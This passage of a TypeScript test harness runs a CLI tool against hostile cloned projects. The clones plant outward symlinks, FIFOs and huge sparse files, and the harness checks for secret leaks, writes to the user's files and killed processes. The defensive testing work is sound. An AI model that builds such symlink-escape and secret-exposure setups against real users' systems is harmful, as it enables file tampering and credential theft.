  return candidates.length === 1 ? `the first characters of ${SECRET_HOMES[candidates[0]!]}` : 'the first characters of a secret';
}

const describeSecrets = (names: string[]) => names.map(secretHome).join(', ');

/** Files in the project holding a secret, walked without following links (.git is searched through git). */
async function secretsInProject(root: string): Promise<string[]> {
  const hits: string[] = [];
  async function visit(dir: string): Promise<void> {
    for (const entry of await fs.readdir(dir, { withFileTypes: true }).catch(() => [])) {
      const file = path.join(dir, entry.name);
      if (entry.isDirectory()) {
        if (file !== path.join(root, '.git')) await visit(file);
      } else if (entry.isFile()) {
        const names = secretsIn(await fs.readFile(file));
        if (names.length) hits.push(`${path.relative(root, file)} holds ${describeSecrets(names)}`);
      }
    }
  }
  await visit(root);
  return hits;
}

/** Streams a git command's output looking for the marker (the history may hold 200 MB blobs). */
function secretsInGit(cwd: string, args: string[]): Promise<string[]> {
  return new Promise((resolve, reject) => {
    const child = spawn('git', args, { cwd, stdio: ['ignore', 'pipe', 'ignore'], env: { ...process.env, ...GIT_IDENTITY, GIT_PAGER: 'cat' } });
    const names = new Set<string>();
    let carry: Buffer = Buffer.alloc(0);
    child.stdout.on('data', (chunk: Buffer) => {
      const buffer = carry.length ? Buffer.concat([carry, chunk]) : chunk;
      for (const name of secretsIn(buffer)) names.add(name);
      carry = buffer.subarray(Math.max(0, buffer.length - 64));
    });
    child.on('error', reject);
    child.on('close', () => resolve([...names]));
  });
}

function groupList(items: string[], max = 5): string {
  return items.length <= max ? items.join(', ') : `${items.slice(0, max).join(', ')} (+${items.length - max} more)`;
}

async function runClone(spec: Clone): Promise<CloneReport> {
  const started = Date.now();
  const report: CloneReport = { id: spec.id, attack: spec.attack, runs: [], skipped: [], outsideChanged: new Set(), outsideRead: new Set(), leaks: [], violations: [], ms: 0 };
  const base = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'baton-hostile-')));
  const out = path.join(base, 'outside');
  const home = path.join(base, 'home');
  const tmp = path.join(base, 'tmp');
  const configHome = path.join(base, 'config');
  for (const dir of [home, tmp, configHome]) await fs.mkdir(dir);
  await buildOutside(out);
  // The user's own process, in its own process group (as a shell job would be).
  const user = spawn('sleep', ['300'], { detached: true, stdio: 'ignore' });
  user.unref();
  let userGone: string | null = null;
  user.on('exit', (code, signal) => (userGone = signal ?? `exit ${code}`));
  let project: Project | null = null;
  try {
    project = await makeProject();
    const dir = project.dir;
    const env = { ...GIT_IDENTITY, HOME: home, TMPDIR: tmp, XDG_CONFIG_HOME: configHome, BATON_TRUST: '', BATON_INSPECT: '', NO_COLOR: '1', CLAUDE_PROJECT_DIR: dir };
    const kit: Kit = {
      project,
      out,
      o: (relative) => path.join(out, relative),
      userPid: user.pid!,
      hostile: [],
      async link(relative, target, how = 'absolute') {
        const file = project!.file(relative);
        await fs.mkdir(path.dirname(file), { recursive: true });
        await fs.symlink(how === 'relative' ? path.relative(path.dirname(file), target) : target, file);
        kit.hostile.push(relative);
      },
      async folder(relative) {
        await fs.mkdir(project!.file(relative), { recursive: true });
        await fs.writeFile(path.join(project!.file(relative), 'kept.txt'), 'a folder where a file belongs\n');
        kit.hostile.push(relative);
      },
      async file(relative, content, hostile = false) {
        await fs.mkdir(path.dirname(project!.file(relative)), { recursive: true });
        await fs.writeFile(project!.file(relative), content);
        if (hostile) kit.hostile.push(relative);
      },
      async fifo(relative) {
        await fs.mkdir(path.dirname(project!.file(relative)), { recursive: true });
        await execa('mkfifo', [project!.file(relative)]);
        kit.hostile.push(relative);
      },
      async sparse(relative, bytes) {
        await fs.mkdir(path.dirname(project!.file(relative)), { recursive: true });
        await execa('truncate', ['-s', String(bytes), project!.file(relative)]);
        kit.hostile.push(relative);
      },
    };

    if (spec.trusted) {
      await project.write('.claude/config/project.json', TRUSTED_CONFIG);
      const trusted = await runBaton(['trust'], { cwd: dir, env, timeoutMs: 30_000 });
      if (trusted.exitCode !== 0) throw new Error(`baton trust failed: ${trusted.stderr}`);
    }
    await spec.build(kit);
    await project.commit('hostile clone');
    await spec.untracked?.(kit);

    const outsideBefore = await fingerprint(out);
    let outside = outsideBefore;
    let homeTree = await fingerprint(home, undefined, ['.npm']);
    const baseNames = (await fs.readdir(base)).sort().join(',');
    const hostileSignatures = new Map<string, string | null>();
    for (const relative of kit.hostile) hostileSignatures.set(relative, await signature(project.file(relative)));
    const initialLinks = await linksLeaving(dir);
    const reportedLinks = new Set<string>();
    const lostEntries = new Set<string>();
    const timeoutMs = spec.mayHang ? 6_000 : 30_000;
    let hangs = 0;

    for (const step of STEPS) {
      if (hangs >= 3) {
        report.skipped.push(step.name);
        continue;
      }
      const outcome = await runBaton(step.args, { cwd: dir, env, timeoutMs, ...(step.input ? { input: JSON.stringify(step.input(dir)) } : {}) });
      const run: StepRun = { step: step.name, ...outcome };
      report.runs.push(run);
      const said = `${outcome.stdout}\n${outcome.stderr}`;
      const v = (message: string) => report.violations.push(`${step.name}: ${message}`);

      // Hangs, exit codes, stack traces.
      if (outcome.timedOut) {
        hangs += 1;
        v(`hung (killed after ${timeoutMs / 1000} s)`);
      } else if (outcome.signal) v(`killed by ${outcome.signal}`);
      else {
        const allowed = step.name.startsWith('hook PreToolUse') ? [0, 1, 2] : DOCUMENTED_EXITS[step.kind];
        if (!allowed.includes(outcome.exitCode ?? -1)) v(`exit ${outcome.exitCode} (documented: ${allowed.join(', ')}): ${firstLine(outcome.stderr || outcome.stdout)}`);
        if (STACK_TRACE.test(said)) v(`printed a stack trace or "internal error": ${firstLine(said.split('\n').find((line) => STACK_TRACE.test(line)) ?? '')}`);
      }
      // A hostile .claude folder stops every command that needs it.
      if (spec.stopsOn && step.kind === 'cli' && !outcome.timedOut) {
        const applies = spec.stopsOn.need === 'claude' ? step.needs.length > 0 : step.needs.includes(spec.stopsOn.need);
        if (applies && (outcome.exitCode !== 4 || !namesEntry(said, spec.stopsOn.name))) {
          v(`expected exit 4 naming ${spec.stopsOn.name} (not a real folder/file baton can use), got exit ${outcome.exitCode}${outcome.exitCode === 0 ? '' : `: ${firstLine(outcome.stderr || outcome.stdout)}`}`);
        }
      }
      // Secrets in what the agent sees.
      const shown = secretsIn(said);
      if (shown.length) {
        report.leaks.push(`${step.name} output`);
        v(`printed ${describeSecrets(shown)}`);
      }
      // The user's files.
      const now = await fingerprint(out, outside);
      const diff = compareTrees(outside, now, (relative) => (relative ? `~/${relative}` : '~'));
      if (diff.changed.length) v(`changed the user's files: ${groupList(diff.changed)}`);
      for (const change of diff.changed) report.outsideChanged.add(change.replace(/^\S+ (~\S*).*$/, '$1').replace(/^(~\/logs\/).+\.log$/, '$1*.log'));
      const newlyRead = diff.read.filter((file) => !report.outsideRead.has(file));
      if (newlyRead.length) v(`read the user's files through the clone: ${groupList(newlyRead)}`);
      for (const file of diff.read) report.outsideRead.add(file.replace(/^(~\/logs\/).+\.log$/, '$1*.log'));
      outside = now;
      const homeNow = await fingerprint(home, homeTree, ['.npm']);
      const homeDiff = compareTrees(homeTree, homeNow, (relative) => `$HOME/${relative}`);
      if (homeDiff.changed.length) v(`changed $HOME: ${groupList(homeDiff.changed)}`);
      homeTree = homeNow;
      const names = (await fs.readdir(base)).sort().join(',');
      if (names !== baseNames) v(`created entries beside the project: ${names}`);
      for (const file of ROOT_CLAUDE) if (existsSync(file) && !rootClaudeBefore.get(file)) v(`created ${file}`);
      // The user's process.
      await new Promise((resolve) => setImmediate(resolve));
      if (userGone && !report.violations.some((line) => line.includes("user's own process"))) v(`the user's own process (pid ${user.pid}) is gone (${userGone})`);
      // Hostile entries: kept where they are, or kept aside.
      for (const [relative, original] of hostileSignatures) {
        if (lostEntries.has(relative)) continue;
        const file = project.file(relative);
        if ((await signature(file)) === original) continue;
        const siblings = await fs.readdir(path.dirname(file)).catch(() => [] as string[]);
        const aside = siblings.filter((name) => name.startsWith(`${path.basename(file)}.bad-`));
        let kept = false;
        for (const name of aside) if ((await signature(path.join(path.dirname(file), name))) === original) kept = true;
        if (kept) continue;
        lostEntries.add(relative);
        v(`${(await signature(file)) === null ? 'removed' : 'replaced'} the committed ${relative} (${original}) without keeping it aside as ${path.basename(relative)}.bad-<stamp>`);
      }
      // New links out of the project.
      for (const found of await linksLeaving(dir)) {
        if (initialLinks.has(found) || reportedLinks.has(found)) continue;
        const [name = '', target = ''] = found.split(' -> ');
        const keptAside = [...hostileSignatures].some(([relative, original]) => name.startsWith(`${relative}.bad-`) && original === `link -> ${target}`);
        if (keptAside) continue;
        reportedLinks.add(found);
        v(`created a link out of the project: ${found}`);
      }
    }

    // The project and its history.
    for (const hit of await secretsInProject(dir)) {
      report.leaks.push(hit.split(' holds ')[0]!);
      report.violations.push(`project files: ${hit}`);
    }
    const history = [...new Set([...(await secretsInGit(dir, ['log', '-p', '--all', '--binary'])), ...(await secretsInGit(dir, ['cat-file', '--batch-all-objects', '--batch']))])];
    if (history.length) {
      report.leaks.push('git history');
      report.violations.push(`git history holds ${describeSecrets(history)}`);
    }
    if (spec.startsFresh) {
      const entry = report.runs.find((run) => run.step === 'entry');
      const status = report.runs.find((run) => run.step === 'status --json');
      if (entry?.exitCode !== 0 || status?.exitCode !== 0) {
        report.violations.push(
          `entry must keep the hostile ${kit.hostile.join(', ')} aside (<name>.bad-<stamp>) and start the session; entry exit ${entry?.timedOut ? 'hang' : entry?.exitCode}, then status exit ${status?.timedOut ? 'hang' : (status?.exitCode ?? 'not run')}${entry?.exitCode ? `: ${firstLine(entry.stderr || entry.stdout)}` : ''}`,
        );
      }
    }
    if (spec.expect) for (const problem of spec.expect(report.runs, kit)) report.violations.push(problem);
    if (report.skipped.length) report.violations.push(`not run after 3 hangs: ${report.skipped.join(', ')}`);
  } catch (error) {
    report.violations.push(`the test could not build or run this clone: ${(error as Error).stack ?? String(error)}`);
  } finally {
    if (!userGone) killGroup(user.pid!);
    if (project) await fs.rm(project.dir, { recursive: true, force: true }).catch(() => undefined);
    await fs.rm(base, { recursive: true, force: true }).catch(() => undefined);
    report.ms = Date.now() - started;
  }
  return report;
}

// ---------------------------------------------------------------------------------------
// The table

function exitSummary(runs: StepRun[]): string {
  const counts = new Map<string, number>();
  for (const run of runs) {
    const key = run.timedOut ? 'hang' : run.signal ? run.signal : String(run.exitCode);
    counts.set(key, (counts.get(key) ?? 0) + 1);
  }
  return [...counts].sort(([a], [b]) => a.localeCompare(b)).map(([key, count]) => `${key}x${count}`).join(' ');
}

function renderTable(reports: CloneReport[]): string {
  const header = ['clone', 'cmds', 'outside changed', 'outside read', 'secret leaks', 'exit codes', 'violations'];
  const clip = (text: string, width: number) => (text.length > width ? `${text.slice(0, width - 1)}…` : text);
  const rows = reports.map((report) => [
    report.id,
    `${report.runs.length}/${STEPS.length}`,
    clip(groupList([...report.outsideChanged], 3) || '-', 58),
    clip(groupList([...report.outsideRead], 2) || '-', 40),
    clip(groupList([...new Set(report.leaks)], 2) || '-', 48),
    exitSummary(report.runs),
    String(report.violations.length),
  ]);
  const widths = header.map((title, column) => Math.max(title.length, ...rows.map((row) => row[column]!.length)));
  const line = (cells: string[]) => `| ${cells.map((cell, column) => cell.padEnd(widths[column]!)).join(' | ')} |`;
  const failing = reports.filter((report) => report.violations.length > 0).length;
  return [
    `Hostile clones: ${reports.length} clones x ${STEPS.length} commands; ${failing} with violations (secret marker ${LEAK}; ~ is the fake home of the user's files)`,
    line(header),
    line(widths.map((width) => '-'.repeat(width))),
    ...rows.map(line),
  ].join('\n');
}

// ---------------------------------------------------------------------------------------

const CONCURRENCY = Math.max(1, Number(process.env.HOSTILE_CONCURRENCY ?? 3));
/** HOSTILE_ONLY=id,id runs only those clones (while working on one attack). */
const SELECTED = process.env.HOSTILE_ONLY ? CLONES.filter((spec) => process.env.HOSTILE_ONLY!.split(',').includes(spec.id)) : CLONES;
const reports = new Map<string, CloneReport>();

beforeAll(async () => {
  if (!existsSync(CLI)) throw new Error(`${CLI} is missing: run \`npm run build\` first`);
  const started = Date.now();
  const queue = [...SELECTED];
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      for (let spec = queue.shift(); spec; spec = queue.shift()) reports.set(spec.id, await runClone(spec));
    }),
  );
  console.log(`${renderTable(SELECTED.map((spec) => reports.get(spec.id)!))}\n(${((Date.now() - started) / 1000).toFixed(0)} s, ${CONCURRENCY} clones at a time)`);
}, 30 * 60_000);

afterAll(() => {
  for (const pid of liveGroups) killGroup(pid);
});

describe('hostile clones: nothing outside the project changes, and nothing of it gets in', () => {
  for (const spec of SELECTED) {
    it(`${spec.id}: ${spec.attack}`, () => {
      const report = reports.get(spec.id);
      expect(report, 'the clone did not run').toBeDefined();
      expect(report!.violations, `${spec.id} (${spec.attack}):\n  ${report!.violations.join('\n  ')}`).toEqual([]);
    });
  }
});
